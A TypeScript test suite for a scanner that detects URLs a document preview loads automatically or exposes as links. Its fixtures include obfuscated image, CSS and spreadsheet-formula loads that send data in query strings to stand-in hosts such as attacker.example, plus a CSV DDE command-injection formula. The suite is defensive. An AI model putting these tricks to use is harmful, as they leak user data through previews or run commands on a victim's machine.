import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { autoLoadingUrls, ComputedUrl, FramedPage, linkedUrls } from "./autoload-urls.ts";

void describe("autoLoadingUrls", () => {
  void it("finds what a preview loads by itself in Markdown, HTML, reStructuredText, AsciiDoc, Org and spreadsheet formulas", async () => {
    const cases: Array<[string, string]> = [
      ["# Summary\n![chart](http://a.example/c.png?d=1)\n", "http://a.example/c.png?d=1"],
      ["See ![chart][c]\n\n[c]: https://a.example/r.png?d=2\n", "https://a.example/r.png?d=2"],
      ['<p><img src="https://a.example/i.gif?d=3"></p>', "https://a.example/i.gif?d=3"],
      [".. image:: https://a.example/rst.png?d=4\n", "https://a.example/rst.png?d=4"],
      ["image::https://a.example/adoc.png?d=5[chart]\n", "https://a.example/adoc.png?d=5"],
      ["* Notes\n[[https://a.example/org.png?d=6]]\n", "https://a.example/org.png?d=6"],
      ['name,chart\nq3,"=IMAGE(""https://a.example/f.png?d=""&B2)"\n', ComputedUrl],
      ['=IMAGE(CONCATENATE("https://a.example/f.png?d=", B2))', ComputedUrl],
      ['q3,"=IMAGE(""https://a.example/logo.png"")"', "https://a.example/logo.png"],
      ['=WEBSERVICE("https://a.example/w?d=7")', "https://a.example/w?d=7"],
    ];
    for (const [text, url] of cases) assert.ok((await autoLoadingUrls(text)).includes(url), text);
  });

  void it("reads a target as a browser does: web schemes without slashes, backslashes, tabs, scheme-relative names", async () => {
    const cases: Array<[string, string, string]> = [
      ["r.md", '<img src="http:a.example/x?d=1">', "http://a.example/x?d=1"],
      ["r.md", "![](HTTP:/\\\\a.example/y?d=2)\n", "http://a.example/y?d=2"],
      ["r.md", '<video poster="ht\ttps:a.example/p?d=3"></video>', "https://a.example/p?d=3"],
      ["r.md", '<p style="background:url(http:a.example/b?d=4)">x</p>', "http://a.example/b?d=4"],
      ["r.md", "![c][r]\n\n[r]: http:a.example/d?d=5\n", "http://a.example/d?d=5"],
      ["r.md", '<img src="\\\\a.example\\s?d=6">', "https://a.example/s?d=6"],
      ["r.rst", ".. image:: http:/a.example/rst?d=7\n", "http://a.example/rst?d=7"],
      ["r.adoc", "image::https:a.example/adoc?d=8[chart]\n", "https://a.example/adoc?d=8"],
      ["r.org", "[[http:a.example/org?d=9]]\n", "http://a.example/org?d=9"],
      ["n.ipynb", '{"outputs":[{"data":{"text/html":"<img src=\\"http:\\/\\/a.example\\/j?d=10\\">"}}]}', "http://a.example/j?d=10"],
      ["n.ipynb", '{"o":"<img src=\\"\\u0068ttp:\\u002f\\u002fa.example/u?d=11\\">"}', "http://a.example/u?d=11"],
      ["p.svg", '<svg><image href="http&#58;&#x2F;&#x2F;a.example/e?d=12"/></svg>', "http://a.example/e?d=12"],
      ["r.md", '<style>@import "http:a.example/i?d=13";</style>', "http://a.example/i?d=13"],
    ];
    for (const [path, text, url] of cases) assert.ok((await autoLoadingUrls(text, path)).includes(url), `${path}: ${text}`);
    for (const text of ["![](img/a.png)", '<img src="C:/Users/bob/a.png">', '<img src="mailto:bob@a.example">', "![](\\\\x.png)"]) assert.deepEqual(await autoLoadingUrls(text, "r.md"), [], text);
  });

  void it("does not count links a reader must click, relative images or plain prose", async () => {
    for (const text of ["Read [the docs](https://a.example/docs).", "![logo](images/logo.png)", "Visit https://a.example today.", "=HYPERLINK(\"https://a.example\")", "plain text"]) {
      assert.deepEqual(await autoLoadingUrls(text), [], text);
    }
  });
});

void describe("autoLoadingUrls by format", () => {
  void it("reads a format it does not parse whole: every absolute URL counts, namespaces and identifiers do not", async () => {
    const cases: Array<[string, string, string]> = [
      ["party.ics", "BEGIN:VEVENT\nATTACH:https://a.example/i.png?d=1\nEND:VEVENT\n", "https://a.example/i.png?d=1"],
      ["bob.vcf", "BEGIN:VCARD\nPHOTO;VALUE=URI:http://a.example/p.jpg?d=2\nEND:VCARD\n", "http://a.example/p.jpg?d=2"],
      ["site.url", "[InternetShortcut]\nIconFile=http://a.example/i.ico?d=3\n", "http://a.example/i.ico?d=3"],
      ["n.ipynb", '{"outputs":[{"data":{"text/html":["<img src=\\"http://a.example/o.png?d=4\\">"]}}]}', "http://a.example/o.png?d=4"],
    ];
    for (const [path, text, url] of cases) assert.ok((await autoLoadingUrls(text, path)).some((u) => u.startsWith(url)), path);
    assert.deepEqual(await autoLoadingUrls('<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', "plan.svg"), []);
    assert.deepEqual(await autoLoadingUrls("BEGIN:VCALENDAR\nPRODID:-//bob//EN\nEND:VCALENDAR\n", "party.ics"), []);
  });

  void it("finds the places parsed formats fetch from without an image syntax", async () => {
    const cases: Array<[string, string]> = [
      [":imagesdir: http://a.example/d5\n\nimage::map.png[]\n", "http://a.example/d5"],
      [".. |map| image:: http://a.example/sub.png\n", "http://a.example/sub.png"],
      [".. csv-table:: Data\n   :url: http://a.example/t.csv\n", "http://a.example/t.csv"],
      ["#+SETUPFILE: http://a.example/setup.org\n", "http://a.example/setup.org"],
      ["---\ncover: http://a.example/cover.png\n---\n# Trip\n", "http://a.example/cover.png"],
      ["```mermaid\nA@{ img: \"http://a.example/m.png\" }\n```\n", "http://a.example/m.png"],
      ["video::x.mp4[poster=http://a.example/p.png]\n", "http://a.example/p.png"],
      ["<IMG SRC=http://a.example/u.png?d=6>\n", "http://a.example/u.png?d=6"],
      ["<img/src=\"http://a.example/s.png\">\n", "http://a.example/s.png"],
      ["Chart: $$\\includegraphics[width=2cm]{ http://a.example/k.png?d=7 }$$\n", "http://a.example/k.png?d=7"],
      ["See $\\href{http://a.example/h?d=8}{x}$ here\n", "http://a.example/h?d=8"],
    ];
    for (const [text, url] of cases) assert.ok((await autoLoadingUrls(text, "doc.md")).some((u) => u.startsWith(url)), text);
    assert.ok((await autoLoadingUrls("a,b\n=cmd|' /C calc'!A0,1\n", "s.csv")).includes(ComputedUrl));
    assert.deepEqual(await autoLoadingUrls("```python\nrequests.get('https://a.example/api')\n```\n", "doc.md"), []);
  });

  void it("counts a document whose targets resolve against another file, a remote base or an attribute as computing its URLs", async () => {
    const computed: Array<[string, string]> = [
      ["include::attrs.adoc[]\n\nimage::d-4821.png[]\n", "doc.adoc"],
      ["image::{chartbase}d-4821[]\n", "doc.adoc"],
      [":imagesdir: {base}\nimage::d-4821.png[]\n", "doc.adoc"],
      [":imagesdir: https://a.example/i\nimage::d-4821.png[]\n", "doc.adoc"],
      ["#+SETUPFILE: setup.org\n[[att:d-4821.png]]\n", "notes.org"],
      ["#+LINK: att https://a.example/%s\n[[att:d-4821.png]]\n", "notes.org"],
      ["--8<-- \"head.md\"\nd-4821.png\">\n", "doc.md"],
      ["{{#include head.md}}\n", "doc.md"],
      ["{% include head.html %}\n", "doc.md"],
      ["![[head]]\n", "doc.md"],
      ["<base href=\"https://a.example/p/\">\n<img src=\"d-4821.png\">\n", "page.html"],
      [".. include:: head.rst\n", "doc.rst"],
    ];
    computed.push(
      ["{!head.md!}\n", "doc.md"], ["@import \"head.md\"\n", "doc.md"], ["<!--@include: ./head.md-->\n", "doc.md"], ["!INCLUDE \"head.md\"\n", "doc.md"],
      ["<include src=\"head.md\" />\n", "doc.md"], ["[!INCLUDE [t](head.md)]\n", "doc.md"],
      // imagesdir may come from outside the document (.asciidoctorconfig, build attributes).
      ["image::d-4821.png[]\n", "report.adoc"],
    );
    for (const [text, path] of computed) assert.ok((await autoLoadingUrls(text, path)).includes(ComputedUrl), text);
    assert.ok((await autoLoadingUrls("<iframe name=\"d-4821\" src=\"https://a.example/\"></iframe>\n", "doc.md")).includes(FramedPage));
    assert.ok((await autoLoadingUrls("<object data=\"https://a.example/x.svg\" width=\"4821\"></object>\n", "page.html")).includes(FramedPage));
    assert.deepEqual(await autoLoadingUrls("image::https://a.example/a.png[]\n", "doc.adoc"), ["https://a.example/a.png"]);
    const local: Array<[string, string]> = [
      [":imagesdir: images\n\nimage::chart.png[]\n", "doc.adoc"],
      ["<base href=\"/docs/\">\n<img src=\"a.png\">\n", "page.html"],
      ["# Notes\n\n![chart](chart.png)\n", "doc.md"],
    ];
    for (const [text, path] of local) assert.ok(!(await autoLoadingUrls(text, path)).includes(ComputedUrl), text);
  });
});

describe("links a reader can click", () => {
  it("are every link of the markup and every URL written anywhere, spelled as a browser reads it", async () => {
    assert.deepEqual((await linkedUrls("see [compare](http:attacker.example/c?s=1) and <a href='https://b.example/x'>b</a>", "report.md")).sort(), ["http://attacker.example/c?s=1", "https://b.example/x"]);
    assert.deepEqual(await linkedUrls("Compare at https://attacker.example/c?s=1 today", "notes.txt"), ["https://attacker.example/c?s=1"]);
    assert.deepEqual(await linkedUrls("`compare <https://attacker.example/c?s=1>`_", "report.rst"), ["https://attacker.example/c?s=1"]);
    assert.deepEqual(await linkedUrls('name,link\nx,"=HYPERLINK(""https://attacker.example/c?s=1"",""go"")"', "t.csv"), ["https://attacker.example/c?s=1"]);
    assert.deepEqual(await linkedUrls("![chart](https://cdn.example/c.png)", "report.md"), ["https://cdn.example/c.png"]);
    assert.deepEqual(await linkedUrls("[usage](#usage) and [docs](docs/a.md)", "report.md"), []);
    assert.deepEqual(await linkedUrls("Compare at www.attacker.example/c?s=98765 today", "notes.txt"), ["http://www.attacker.example/c?s=98765"]);
  });
});

void describe("style sheets and data: URLs (atk13)", () => {
  const b64 = (s: string) => Buffer.from(s).toString("base64");
  const esc = (s: string) => [...s].map((c) => `\\${c.charCodeAt(0).toString(16)} `).join("");
  void it("finds escaped URLs in <style>, style attributes, SVG styles and .css files", async () => {
    const origin = esc("http://a.example");
    const cases: Array<[string, string, string]> = [
      ["r.md", `<style>div { background: url(${origin}/p?d=1) }</style>`, "http://a.example/p?d=1"],
      ["r.md", `<style>@import "${origin}/i?d=2";</style>`, "http://a.example/i?d=2"],
      ["r.md", `<div style="background-image: \\75rl(${origin}/p?d=3)">x</div>`, "http://a.example/p?d=3"],
      ["r.md", `<svg><style>rect { fill: url(${origin}/f?d=4#g) }</style></svg>`, "http://a.example/f?d=4#g"],
      ["site.css", `@font-face { src: src("${origin}/f?d=5") }`, "http://a.example/f?d=5"],
      ["site.less", `.a { background: image-set("${origin}/p?d=6" 1x) }`, "http://a.example/p?d=6"],
    ];
    for (const [path, text, url] of cases) assert.ok((await autoLoadingUrls(text, path)).includes(url), text);
  });

  void it("opens data: URLs: style sheets and SVGs, percent-encoded or base64, nested", async () => {
    const css = "@import url(http://a.example/i?d=1);";
    const cases: Array<[string, string, string]> = [
      ["r.md", `<link rel="stylesheet" href="data:text/css,${encodeURIComponent(css)}">`, "http://a.example/i?d=1"],
      ["r.md", `<link rel=stylesheet href="data:text/css;base64,${b64(css)}">`, "http://a.example/i?d=1"],
      ["r.md", `![c](data:image/svg+xml;base64,${b64('<svg><image href="http://a.example/p?d=2"/></svg>')})`, "http://a.example/p?d=2"],
      ["r.html", `<img src="data:image/svg+xml,${encodeURIComponent(`<svg><style>${css}</style></svg>`)}">`, "http://a.example/i?d=1"],
      ["r.md", `<link rel="stylesheet" href="data:text/css;base64,${b64(`@import url("data:text/css,${encodeURIComponent(css)}");`)}">`, "http://a.example/i?d=1"],
    ];
    for (const [path, text, url] of cases) assert.ok((await autoLoadingUrls(text, path)).includes(url), text);
  });

  void it("stands a data: URL nested past the limit for a computed load, and keeps pictures and the SVG namespace out", async () => {
    let css = "@import url(http://a.example/i?d=1);";
    for (let i = 0; i < 6; i++) css = `@import url("data:text/css;base64,${b64(css)}");`;
    assert.ok((await autoLoadingUrls(`<style>${css}</style>`, "r.md")).includes(ComputedUrl));
    const svg = encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9"/></svg>');
    assert.deepEqual(await autoLoadingUrls(`<div style="background: url(data:image/png;base64,iVBORw0KGgo=)">x</div>\n<img src="data:image/svg+xml,${svg}">`, "r.md"), []);
    assert.deepEqual(await autoLoadingUrls('<div style="color: #333; background: url(img/bg.png)">x</div>', "r.md"), []);
  });
});

void describe("front matter, bare domains and mailto (atk13)", () => {
  void it("reads YAML, TOML and JSON front matter as their generators decode it", async () => {
    const cases = [
      '---\ncover: "\\x68ttp://a.example/c?d=1"\n---\n# Q\n',
      '+++\n[params]\ncover = "\\u0068ttp://a.example/c?d=1"\n+++\n# Q\n',
      '---json\n{ "cover": "\\u0068ttp:\\/\\/a.example/c?d=1" }\n---\n# Q\n',
    ];
    for (const text of cases) assert.ok((await autoLoadingUrls(text, "r.md")).includes("http://a.example/c?d=1"), text);
  });

  void it("links bare domains followed by a path, a query or a port, and mailto: links with headers", async () => {
    assert.deepEqual(await linkedUrls("Compare at attacker.example.net/c?s=98765", "r.md"), ["http://attacker.example.net/c?s=98765"]);
    assert.deepEqual(await linkedUrls("| pay | a.example.io:8080 |", "r.md"), ["http://a.example.io:8080/"]);
    assert.deepEqual(await linkedUrls("[fb](mailto:ops@a.example?subject=Q3&body=98765)", "r.md"), ["mailto:ops@a.example?subject=Q3&body=98765"]);
    assert.deepEqual(await linkedUrls('<a href="mailto:ops@a.example?body=1">x</a>', "r.md"), ["mailto:ops@a.example?body=1"]);
  });

  void it("leaves file names, versions, languages, e-mail addresses and plain mailto: as text", async () => {
    const text = "See notes.txt, report.final.md, v1.2.3, Node.js/Deno, main.py?, src/app.io/x, me@a.example and mailto:me@a.example.\n";
    assert.deepEqual(await linkedUrls(text, "r.md"), []);
  });
});

void describe("srcset as the HTML standard splits it (atk13)", () => {
  void it("keeps a data: URL's commas and still splits candidates", async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://a.example/p?d=1"/></svg>';
    const loads = await autoLoadingUrls(`<img srcset="data:image/svg+xml,${encodeURIComponent(svg).replace(/%2C/g, ",")} 1x, https://b.example/2.png 2x,https://c.example/3.png">`, "r.md");
    for (const url of ["http://a.example/p?d=1", "https://b.example/2.png", "https://c.example/3.png"]) assert.ok(loads.includes(url), url);
  });
});

describe("namespace identifiers", () => {
  it("an SVG's or XHTML's namespaces are neither loads nor links, whichever reading finds them; another URL still is", async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>see www.w3.org/TR/SVG2 and https://a.example/x</text></svg>';
    assert.deepEqual(await autoLoadingUrls(svg, "chart.svg"), ["https://a.example/x"]);
    assert.deepEqual(await linkedUrls(svg, "chart.svg"), ["https://a.example/x"]);
  });
});
